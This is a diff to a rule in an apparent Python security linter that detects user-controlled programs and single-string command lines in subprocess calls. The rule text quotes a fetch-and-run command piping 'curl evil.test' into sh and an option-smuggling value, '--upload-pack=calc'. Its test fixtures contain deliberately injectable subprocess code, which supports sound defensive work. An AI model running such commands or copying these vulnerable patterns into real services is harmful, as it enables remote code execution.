@@ -5,6 +5,7 @@ from __future__ import annotations
 import ast
 
 from tabguard.engine.rule import Invalid, Rule
+from tabguard.engine.taint import LOCAL_SOURCES
 from tabguard.rules.injection._shell import LAUNCHERS, launched, process_call, process_call_name, script_argument, shell_enabled
 from tabguard.rules.injection._strings import formatted_pieces
 
@@ -28,7 +29,10 @@ class TaintedExecutable(Rule):
         "An argument list stops shell parsing, but not the choice of program: a request that sends "
         "`[\"bash\", \"-c\", \"curl evil.test | sh\"]` or `/usr/bin/python3` as the tool name runs anything "
         "the server account can. Assistants write `subprocess.run(request.json[\"cmd\"])` for \"run a "
-        "task\" endpoints."
+        "task\" endpoints. A whole command line in one string without a shell "
+        "(`subprocess.run(\"git clone \" + url)`) is no safer: Windows splits it into arguments, so "
+        "`url=--upload-pack=calc` adds an option that runs a program (on POSIX the call fails, and the "
+        "usual \"fix\", `shell=True`, makes it a shell injection)."
     )
     how = (
         "Map a user-supplied *name* to a fixed program from an allow-list (`TOOLS = {{\"lint\": [\"ruff\", "
@@ -46,12 +50,15 @@ class TaintedExecutable(Rule):
         'import subprocess\ndef f(prog):\n    subprocess.run([prog, "--version"])\n',
         'import subprocess\nfrom flask import request\ndef f():\n    subprocess.run(["python3", "tool.py", request.form["arg"]])\n',
         'import asyncio\ndef handler(event, context):\n    return asyncio.create_subprocess_exec("git", "log", *event["paths"])\n',
+        'import subprocess\ndef f(ref):\n    subprocess.run("git log " + ref)\n',
+        'import subprocess, sys\nsubprocess.call("grep -R {} .".format(sys.argv[1]))\n',
     )
     INVALID = (
         Invalid('import subprocess\nfrom flask import request\ndef run():\n    subprocess.run(request.json["argv"])\n'),
         Invalid('import subprocess, sys\nsubprocess.Popen([sys.argv[1], "--help"])\n'),
         Invalid('import os\nfrom flask import request\ndef f():\n    os.execvp(request.args["p"], [request.args["p"]])\n'),
         Invalid('import subprocess\nfrom flask import request\ndef f():\n    subprocess.run(["python3", request.form["script"]])\n'),
+        Invalid('import subprocess\nfrom flask import request\ndef f():\n    subprocess.run("git clone " + request.form["repo"])\n'),
         Invalid('import asyncio\ndef handler(event, context):\n    argv = event["cmd"]\n'
                 '    return asyncio.create_subprocess_exec(*argv)\n'),
     )
@@ -66,11 +73,17 @@ class TaintedExecutable(Rule):
             return  # shell=True is TG100's case
         program, argv = launch
         parts = formatted_pieces(program) if program is not None else None
-        if parts and isinstance(parts[0], str) and " " in parts[0]:
-            return  # "grep -R {}" without a shell names a program "grep -R ...": the user picks no program
         source = ctx.taint(program)
-        what = "a program"
-        if source is None:
-            source, what = ctx.taint(script_argument(program, argv)), "a script"
+        severity = None
+        if parts and isinstance(parts[0], str) and " " in parts[0]:
+            # "ping " + host without a shell: the user picks arguments (Windows parses the string), not
+            # the program; a local user choosing options of their own command crosses no boundary.
+            source = source if source is None or source.label not in LOCAL_SOURCES else None
+            what, severity = "a command line (one string, split into arguments on Windows)", "high"
+        else:
+            what = "a program"
+            if source is None:
+                source, what = ctx.taint(script_argument(program, argv)), "a script"
         if source is not None:
-            ctx.report(self, node, details={"callee": callee or ast.unparse(node.func), "what": what}, source=source)
+            ctx.report(self, node, details={"callee": callee or ast.unparse(node.func), "what": what}, source=source,
+                       severity=severity)
